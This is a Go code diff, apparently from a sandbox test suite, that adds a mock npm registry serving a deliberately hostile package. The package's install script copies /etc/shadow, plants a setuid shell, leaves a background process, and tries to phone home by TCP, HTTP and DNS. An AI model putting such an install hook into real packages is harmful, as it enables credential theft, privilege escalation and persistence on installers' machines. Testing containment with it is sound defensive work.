@@ -70,11 +70,40 @@ func index() http.Handler {
 	return m
 }
 
-// tarball is the package for JavaScript.
-func tarball() ([]byte, error) {
+// Marker is in the name of every file that Hostile tries to leave, and in the
+// arguments of the process that it leaves.
+const Marker = "callcell-marker"
+
+// Hostile is a package for JavaScript whose install script tries to leave its
+// place, to phone home, and to stay.
+const Hostile = "callcell-hostile"
+
+const hostileScript = `#!/bin/sh
+for dir in / /root /etc /usr /usr/local/bin /home /var/tmp /opt /opt/callcell /dev /run /proc /sys; do
+  echo x > $dir/` + Marker + ` 2>/dev/null
+done
+cat /etc/shadow > stolen 2>/dev/null
+ln -s /etc/shadow shadow
+ln -s / root
+mkfifo pipe
+cp /bin/sh rootsh && chmod 6755 rootsh
+( setsid sh -c 'sleep 1000; : ` + Marker + `' >/dev/null 2>&1 & )
+node -e "require('net').connect(443, '93.184.216.12').on('error', () => {})" &
+node -e "require('http').get('http://denied.test/` + Marker + `').on('error', () => {})" &
+node -e "require('dns').lookup('` + Marker + `.denied.test', () => {})" &
+sleep 1
+exit 0
+`
+
+// tarball is a package for JavaScript.
+func tarball(name string) ([]byte, error) {
 	members := []member{
-		{"package/package.json", `{"name": "` + Package + `", "version": "1.0.0", "main": "index.js"}` + "\n"},
+		{"package/package.json", `{"name": "` + name + `", "version": "1.0.0", "main": "index.js"}` + "\n"},
 		{"package/index.js", "exports.answer = 42\n"},
+	}
+	if name == Hostile {
+		members[0].text = `{"name": "` + name + `", "version": "1.0.0", "main": "index.js", "scripts": {"install": "sh install.sh"}}` + "\n"
+		members = append(members, member{"package/install.sh", hostileScript})
 	}
 	var out bytes.Buffer
 	z := gzip.NewWriter(&out)
@@ -93,25 +122,34 @@ func tarball() ([]byte, error) {
 
 // registry is a registry of JavaScript packages.
 func registry() http.Handler {
-	data, err := tarball()
+	m := http.NewServeMux()
+	for _, name := range []string{Package, Hostile} {
+		if err := addPackage(m, name); err != nil {
+			return missing(err)
+		}
+	}
+	return m
+}
+
+func addPackage(m *http.ServeMux, name string) error {
+	data, err := tarball(name)
 	if err != nil {
-		return missing(err)
+		return err
 	}
 	sum := sha512.Sum512(data)
-	m := http.NewServeMux()
-	m.HandleFunc("/npm/"+Package, func(w http.ResponseWriter, r *http.Request) {
+	m.HandleFunc("/npm/"+name, func(w http.ResponseWriter, r *http.Request) {
 		version := map[string]any{
-			"name": Package, "version": "1.0.0", "main": "index.js",
+			"name": name, "version": "1.0.0", "main": "index.js", "hasInstallScript": name == Hostile,
 			"dist": map[string]any{
-				"tarball":   "https://" + r.Host + "/npm/" + Package + "/-/" + Package + "-1.0.0.tgz",
+				"tarball":   "https://" + r.Host + "/npm/" + name + "/-/" + name + "-1.0.0.tgz",
 				"integrity": "sha512-" + base64.StdEncoding.EncodeToString(sum[:]),
 			},
 		}
 		w.Header().Set("Content-Type", "application/json")
 		json.NewEncoder(w).Encode(map[string]any{
-			"name": Package, "dist-tags": map[string]string{"latest": "1.0.0"}, "versions": map[string]any{"1.0.0": version},
+			"name": name, "dist-tags": map[string]string{"latest": "1.0.0"}, "versions": map[string]any{"1.0.0": version},
 		})
 	})
-	m.HandleFunc("/npm/"+Package+"/-/", func(w http.ResponseWriter, _ *http.Request) { w.Write(data) })
-	return m
+	m.HandleFunc("/npm/"+name+"/-/", func(w http.ResponseWriter, _ *http.Request) { w.Write(data) })
+	return nil
 }
